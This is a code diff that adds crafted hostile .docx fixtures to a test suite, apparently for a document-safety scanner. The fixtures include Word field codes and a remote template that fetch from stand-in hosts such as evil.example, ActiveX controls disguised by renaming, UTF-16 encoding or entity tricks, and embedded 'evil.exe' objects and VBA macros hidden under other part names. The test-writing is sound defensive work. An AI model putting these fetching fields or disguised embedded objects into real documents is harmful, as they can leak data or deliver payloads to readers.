@@ -115,6 +115,44 @@ export const hostileFiles: readonly HostileFile[] = [
       ),
     ),
   ),
+  ...[
+    'INCLUDEPICTURE "https://evil.example/x.png" \\d',
+    'INCLUDETEXT "https://evil.example/x.docx"',
+    'IMPORT \\\\\\\\evil\\\\share\\\\x.png \\d',
+    'RD \\f "https://evil.example/x.docx"',
+    'DATABASE \\d "\\\\\\\\evil\\\\x.mdb"',
+    'LINK Word.Document.12 "file://evil/x.docx" \\a',
+  ].map((code) =>
+    replaced(`a field that fetches: ${code}`, ['external-content'], 'word/document.xml', () =>
+      document(`<w:p><w:fldSimple w:instr="${code.replaceAll('"', '&quot;')}">${r('shown')}</w:fldSimple></w:p>`),
+    ),
+  ),
+  replaced('a template from the web that says it is a part', ['external-content'], 'word/_rels/document.xml.rels', () =>
+    relation('attachedTemplate', 'https://evil.example/t.dotm', ''),
+  ),
+  hanging('a control under another name', ['embedded-object'], 'control', 'word/media/thing.dat', () => control),
+  hanging('a control written in UTF-16', ['embedded-object'], 'control', 'word/activeX/activeX1.xml', () =>
+    Buffer.from(`\ufeff${control}`, 'utf16le'),
+  ),
+  hanging('a control whose class is disguised', ['embedded-object'], 'control', 'word/activeX/activeX1.xml', () =>
+    control.replace('F20D', '&#70;20D'),
+  ),
+  hanging(
+    'a control behind a harmless one',
+    ['embedded-object'],
+    'control',
+    'word/activeX/activeX1.xml',
+    () => `<!-- classid="{D7053240-CE69-11CD-A777-00DD01143C57}" -->${control}`,
+  ),
+  hanging('a wrapped program under another name', ['embedded-object'], 'oleObject', 'word/media/thing.dat', () =>
+    wrapped('evil.exe', 'MZ'),
+  ),
+  hanging('a wrapped program that nothing names', ['embedded-object'], 'image', 'word/thing.dat', () =>
+    wrapped('evil.exe', 'MZ'),
+  ),
+  hanging('macros of a document under another name', ['macros'], 'package', 'word/media/thing.dat', () =>
+    zipFiles([{ name: 'word/VBAPROJECT.BIN', data: 'x' }]),
+  ),
   {
     name: 'a locked document',
     verdicts: ['encrypted'],
@@ -186,13 +224,16 @@ export function wrapped(name: string, content: string): Uint8Array {
   return Buffer.concat([ole, Buffer.from('\u0001Ole10Native', 'utf16le'), Buffer.from(head + content, 'latin1')])
 }
 
+const control =
+  '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{F20DA720-C02F-11CE-927B-0800095AE340}"/>'
+
 const document = (body: string) =>
   `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`
 
-const relation = (kind: string, target: string) =>
+const relation = (kind: string, target: string, mode = ' TargetMode="External"') =>
   documentRelationships.replace(
     '</Relationships>',
-    `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/></Relationships>`,
+    `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}"${mode}/></Relationships>`,
   )
 
 /** Many elements that do not pack a hundredfold, so that the count is what stops them. */
@@ -246,4 +287,26 @@ function overlapping(): Uint8Array {
   const record = bytes.lastIndexOf(Buffer.from('word/b.bin'))
   bytes.writeUInt32LE(bytes.indexOf(inner.subarray(0, 40)), record - 4)
   return bytes
+}
+
+/** A part that the document names by a relationship. */
+function hanging(
+  name: string,
+  verdicts: readonly Verdict[],
+  kind: string,
+  part: string,
+  data: () => string | Uint8Array,
+): HostileFile {
+  const target = `/${part}`
+  return {
+    name,
+    verdicts,
+    make: () =>
+      zipFiles([
+        ...generateFiles({ pages: 1 }).map((file) =>
+          file.name === 'word/_rels/document.xml.rels' ? { ...file, data: relation(kind, target, '') } : file,
+        ),
+        { name: part, data: data() },
+      ]),
+  }
 }
